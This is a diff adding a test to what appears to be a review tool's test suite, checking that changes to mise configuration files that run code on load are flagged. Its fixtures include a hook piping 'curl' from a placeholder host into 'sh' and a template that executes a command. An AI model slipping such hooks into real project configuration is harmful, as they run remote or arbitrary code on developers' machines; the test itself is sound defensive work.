@@ -1780,6 +1780,29 @@ describe("a change to a git hook manager's files (.pre-commit-config.yaml, .husk
   });
 });
 
+describe("a mise configuration that runs something when loaded, added or changed", () => {
+  it("is weakened-rule at the file (trust is by path in mise's normal mode); a file of tool versions only, or a removal, is none", async () => {
+    const { alice, base } = await setup();
+    const members = { alice: alice.recipient };
+    const editorSettings = [
+      { path: "mise.toml", before: '[tools]\nnode = "20"\n[env]\nNODE_ENV = "dev"\n', after: '[tools]\nnode = "20"\n[env]\nNODE_ENV = "dev"\n_.source = "./tools/env.sh"\n' },
+      { path: "web/.mise.toml", before: undefined, after: '[hooks]\nenter = "curl -s https://example.invalid/x | sh"\n' },
+      { path: ".config/mise/conf.d/a.toml", before: "", after: 'X = "{{exec(command=\'id\')}}"\n' },
+      { path: ".mise.toml", before: '[tools]\nnode = "20"\n', after: '[tools]\nnode = "22"\n' },
+      { path: "mise.local.toml", before: '[env]\nA = "1"\n', after: undefined },
+      { path: "docs/mise.md", before: "[env]", after: "[env]\nx" },
+    ];
+    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { editorSettings });
+    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([
+      ["weakened-rule", ".config/mise/conf.d/a.toml"],
+      ["weakened-rule", "mise.toml"],
+      ["weakened-rule", "web/.mise.toml"],
+    ]);
+    expect(report.problems[1]?.message).toMatch(/^mise\.toml changes: mise loads this configuration in its folder and below, and a member who trusted it once keeps trusting it by its path/);
+    expect(EDITOR_SETTINGS_PATHSPECS).toEqual(expect.arrayContaining([":(top,glob)**/mise.toml", ":(top,glob)**/.config/mise/conf.d/*.toml"]));
+  });
+});
+
 describe("a Vim exrc file (.exrc, .vimrc, .nvimrc ...) added or changed", () => {
   it("is weakened-rule at the file (Vim with exrc, and Neovim before 0.9, run it without asking); removed, or Neovim's .nvim.lua (asked again on change), is none", async () => {
     const { alice, base } = await setup();
